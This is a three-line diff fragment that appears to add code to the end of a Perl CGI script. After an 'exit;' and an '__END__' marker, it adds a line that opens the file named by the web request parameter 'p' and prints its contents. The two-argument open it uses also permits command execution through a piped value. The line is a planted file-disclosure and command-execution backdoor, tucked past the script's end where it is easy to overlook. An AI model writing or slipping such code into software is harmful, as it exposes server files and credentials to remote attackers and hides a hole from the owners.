@@ -1,0 +1,3 @@
+exit;
+__END__
+open(R,$cgi->param('p')); print <R>;
